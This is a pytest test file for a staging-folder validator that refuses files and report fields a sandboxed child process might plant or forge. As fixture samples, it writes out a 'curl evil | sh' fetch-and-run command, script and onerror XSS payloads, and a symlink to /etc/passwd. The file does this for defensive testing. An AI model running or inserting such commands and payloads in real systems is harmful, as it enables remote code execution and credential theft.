"""lego_core.runtime.staged: the parent commits only what LEGO writes (attacker review of 2026-12-01).

The staging folder is written by the child, which runs the upload's code.
Each case starts from the folder an honest run stages and plants one thing
the review got committed (an odd name, a package ``__init__.py`` in
``kernels/``, a sparse file, a forged ``report.json``...): the parent must
refuse it with a message naming it, and accept the honest folder.
"""
from __future__ import annotations

import json
import os
import shutil
from pathlib import Path

import pytest

from lego_core.runtime import staged
from lego_core.load.spec import ProblemError, ProblemSpec

pytestmark = pytest.mark.sandbox

RUN_ID = "1a2b3c4d"


def honest_report(spec: ProblemSpec) -> dict:
    return {
        "model": spec.name, "overrides": dict(spec.overrides), "dtype": spec.dtype, "device": spec.device, "run_id": RUN_ID,
        "plan": {"speedup": 1.7}, "end_to_end": {"passed": True, "max_abs_error": float("nan")},
        "phases_s": {"startup": 3.0, "load": 0.5, "search": 4.0, "verification": 6.5, "_wall": 8.0},
        "metrics": {"signatures": SIGNATURES},
        "summary": {"model": spec.name, "subproblems": 2, "triton": 1, "library": 1, "e2e_max_abs_error": 1e-6,
                    "e2e_passed": True, "speedup": 1.7, "speedup_kind": "estimated", "launch": "plan"},
    }


SIGNATURES = {"distinct": 5, "attempted": 4, "won": 2, "above_1pct": 3, "above_1pct_attempted": 3, "not_attempted": [], "top": []}


@pytest.fixture
def stage(tmp_path: Path) -> tuple[Path, dict, ProblemSpec]:
    """An honest run's staging folder, the report it returned and its spec."""
    spec = ProblemSpec(str(tmp_path / "mlp.py"), {"batch_size": 2})
    folder = tmp_path / ".out.lego-1a2b3c4d"
    (folder / "kernels").mkdir(parents=True)
    (folder / "tests").mkdir()
    for name in ("optimized_model.py", "reference_model.py", "lego_runtime.py", "lego_overrides.py"):
        (folder / name).write_text("# python\n")
    (folder / "kernels" / "sp001_relu.py").write_text("# a kernel\n")
    (folder / "tests" / "test_sp001_relu.py").write_text("# its test\n")
    (folder / "constants.pt").write_bytes(b"\x80\x02" * 100)
    report = honest_report(spec)
    (folder / "report.json").write_text(json.dumps(report, indent=2))
    return folder, json.loads(json.dumps(report)), spec


def test_the_honest_folder_is_accepted_and_its_report_written_by_the_parent(stage):
    folder, report, spec = stage
    (folder / "report.json").write_text(json.dumps(report))  # the child's spelling; the parent's replaces it
    checked = staged.accept(folder, report, RUN_ID, spec)
    assert checked["summary"]["speedup"] == 1.7
    assert (folder / "report.json").read_text() == json.dumps(checked, indent=2)


def _refused(stage, expected: str) -> None:
    folder, report, spec = stage
    with pytest.raises(ProblemError, match=expected):
        staged.accept(folder, report, RUN_ID, spec)


@pytest.mark.parametrize("plant, expected", [
    (lambda f: (f / "run.sh").write_text("curl evil | sh\n"), "run.sh, which LEGO never writes"),
    (lambda f: (f / "report.html").write_text("<script>steal()</script>"), "report.html, which LEGO never writes"),
    (lambda f: (f / ".lego_output.json").write_text("{}"), ".lego_output.json, which LEGO never writes"),
    (lambda f: (f / "FAILED.json").write_text("{}"), "FAILED.json, which LEGO never writes"),
    (lambda f: (f / "kernels" / "__init__.py").write_text("import os\n"), "kernels/__init__.py, which LEGO never writes"),
    (lambda f: (f / "kernels" / "a b.py").write_text(""), "kernels/a b.py, which LEGO never writes"),
    (lambda f: (f / "kernels" / "k.so").write_bytes(b"\x7fELF"), "kernels/k.so, which LEGO never writes"),
    (lambda f: (f / "kernels" / "sub").mkdir(), "kernels/sub, which LEGO never writes"),
    (lambda f: (f / "tests" / "conftest.py").write_text("import os\n"), "tests/conftest.py, which LEGO never writes"),
    (lambda f: (f / "data").mkdir(), "data, which LEGO never writes"),
    (lambda f: (f / "optimized_model.py").unlink(), "misses optimized_model.py"),
], ids=["script", "report-html", "record", "failed-json", "kernels-init", "space-in-name", "shared-object",
        "nested-folder", "conftest", "other-folder", "missing-model"])
def test_a_name_lego_never_writes_is_refused(stage, plant, expected):
    plant(stage[0])
    _refused(stage, expected)


def test_a_folder_without_lego_overrides_py_is_refused(stage):
    """optimized_model.py imports the model file through lego_overrides.py, with or without overrides."""
    folder, report, spec = stage
    (folder / "lego_overrides.py").unlink()
    with pytest.raises(ProblemError, match="misses lego_overrides.py"):
        staged.accept(folder, report, RUN_ID, spec)


def test_a_sparse_file_is_refused(stage):
    with open(stage[0] / "constants.pt", "r+b") as fh:
        fh.truncate(512 << 20)  # 512 MiB of hole: no disk here, half a gigabyte in every zip
    _refused(stage, "constants.pt is a sparse file")


def test_a_file_over_its_size_limit_is_refused(stage, monkeypatch):
    monkeypatch.setattr(staged, "SOURCE_BYTES", 1000)
    (stage[0] / "kernels" / "sp001_relu.py").write_text("#" * 1001)
    _refused(stage, "kernels/sp001_relu.py is 0.0 MiB")


@pytest.mark.parametrize("forge, expected", [
    (lambda r: r["summary"].update(speedup=1000.0), "not the report the optimizer process returned"),
    (lambda r: r.update(run_id="ffffffff"), "another run"),
    (lambda r: r.update(model="someone_else"), "another run"),
    (lambda r: r["summary"].update(model="<img src=x onerror=alert(1)>"), "another run"),
    (lambda r: r["summary"].update(speedup="<b>1000x</b>"), "speedup is not a finite number"),
    (lambda r: r["summary"].update(speedup=float("inf")), "speedup is not a finite number"),
    (lambda r: r["summary"].update(speedup=-2.0), "speedup is not a finite number"),
    (lambda r: r["summary"].update(e2e_passed=False), "does not say the composed model passed"),
    (lambda r: r["summary"].update(triton="<script>"), "counts of sub-problems"),
    (lambda r: r["summary"].update(launch="x" * 1000), "short text"),
    (lambda r: r["summary"].update(triton=12345), "more kernels and library calls than sub-problems"),
    (lambda r: r.update(phases_s={"bogus phase": 1.0, "_wall": 5.0}), "phases LEGO does not have"),
    (lambda r: r.update(phases_s={"search": 1e300, "_wall": 5.0}), "stages take longer than its wall time"),
    (lambda r: r.update(phases_s={"search": -1.0, "_wall": 5.0}), "not seconds"),
    (lambda r: r.update(phases_s={"search": 1.0, "_wall": True}), "not seconds"),
    (lambda r: r.update(phases_s={"search": 1.0}), "phases LEGO does not have"),
    (lambda r: r.update(metrics={"signatures": dict(SIGNATURES, won=-3)}), "signature counts are not counts"),
    (lambda r: r.update(metrics={"signatures": dict(SIGNATURES, attempted=7)}), "contradict each other"),
    (lambda r: r.update(metrics={"signatures": dict(SIGNATURES, above_1pct_attempted=9)}), "contradict each other"),
], ids=["file-differs", "run-id", "model", "summary-model-html", "speedup-html", "speedup-inf", "speedup-negative", "not-passed",
        "count-html", "long-launch", "more-kernels-than-subproblems", "unknown-phase", "stage-past-wall", "negative-phase",
        "bool-wall", "no-wall", "negative-signature-count", "attempted-past-distinct", "above-1pct-attempted-past-above-1pct"])
def test_a_forged_report_is_refused(stage, forge, expected):
    folder, report, spec = stage
    if expected.startswith("not the report"):
        forged = json.loads((folder / "report.json").read_text())
        forge(forged)
        (folder / "report.json").write_text(json.dumps(forged))  # the file says one thing, the pipe another
    else:
        forge(report)
        (folder / "report.json").write_text(json.dumps(report))
    _refused((folder, report, spec), expected)


@pytest.mark.parametrize("content, expected", [
    (b"not json", "cannot be read as JSON"),
    (b"[" * 5000 + b"]" * 5000, "nested deeper than 100"),
], ids=["not-json", "deep"])
def test_a_report_json_that_is_not_a_bounded_json_object_is_refused(stage, content, expected):
    (stage[0] / "report.json").write_bytes(content)
    _refused(stage, expected)


def test_every_file_is_checked_for_links_too(stage):
    os.link(stage[0] / "optimized_model.py", stage[0] / "kernels" / "sp002.py")
    _refused(stage, "hard link")


# --- reference_modules/: the model's own modules (lego_core.load.local_modules) ---------------


def _with_modules(folder: Path) -> Path:
    """What an honest run of a two-file model stages in reference_modules/."""
    modules = folder / "reference_modules"
    (modules / "blocks" / "sub").mkdir(parents=True)
    (modules / "mylayers.py").write_text("import torch\n")
    (modules / "blocks" / "__init__.py").write_text("from blocks.inner import Block\n")
    (modules / "blocks" / "inner.py").write_text("class Block: ...\n")
    (modules / "blocks" / "sub" / "deep.py").write_text("X = 1\n")
    return modules


def test_the_models_own_modules_are_accepted(stage):
    _with_modules(stage[0])
    folder, report, spec = stage
    assert staged.accept(folder, report, RUN_ID, spec)["summary"]["e2e_passed"] is True


@pytest.mark.parametrize("plant, expected", [
    (lambda m: (m / "run.sh").write_text("curl evil | sh\n"), "reference_modules/run.sh, which LEGO never writes"),
    (lambda m: (m / "lib.so").write_bytes(b"\x7fELF"), "reference_modules/lib.so, which LEGO never writes"),
    (lambda m: (m / "a-b.py").write_text(""), "reference_modules/a-b.py, which LEGO never writes"),
    (lambda m: (m / "blocks" / "__pycache__").mkdir(), "reference_modules/blocks/__pycache__, which LEGO never writes"),
    (lambda m: (m / "blocks" / "data").mkdir() or (m / "blocks" / "data" / "w.bin").write_bytes(b"\0"),
     "reference_modules/blocks/data/w.bin, which LEGO never writes"),
    (lambda m: (m / "bad dir").mkdir(), "reference_modules/bad dir, which LEGO never writes"),
    (lambda m: os.symlink("/etc/passwd", m / "passwd.py"), "symbolic link"),
], ids=["script", "shared-object", "dash", "pycache", "data-file", "space-folder", "link"])
def test_anything_but_python_modules_in_reference_modules_is_refused(stage, plant, expected):
    plant(_with_modules(stage[0]))
    _refused(stage, expected)


def test_reference_modules_must_be_a_folder(stage):
    (stage[0] / "reference_modules").write_text("import os\n")
    _refused(stage, "reference_modules, which LEGO never writes")


def test_reference_modules_are_bounded_in_depth_count_and_size(stage, monkeypatch):
    from lego_core.load import local_modules

    modules = _with_modules(stage[0])
    deep = modules.joinpath(*["d"] * (local_modules.MAX_DEPTH + 1))
    deep.mkdir(parents=True)
    (deep / "x.py").write_text("")
    _refused(stage, f"more than {local_modules.MAX_DEPTH} folders deep")
    shutil.rmtree(modules / "d")
    monkeypatch.setattr(local_modules, "MAX_FILES", 3)
    _refused(stage, "more than 3 files in reference_modules/")
    monkeypatch.setattr(local_modules, "MAX_FILES", 1000)
    monkeypatch.setattr(local_modules, "MAX_TOTAL_BYTES", 40)
    _refused(stage, r"MiB in reference_modules/ \(at most 3.8147e-05 MiB\)")
    monkeypatch.setattr(local_modules, "MAX_TOTAL_BYTES", 1 << 20)
    monkeypatch.setattr(staged, "SOURCE_BYTES", 100)
    (modules / "mylayers.py").write_text("#" * 101)
    _refused(stage, "reference_modules/mylayers.py is 0.0 MiB")
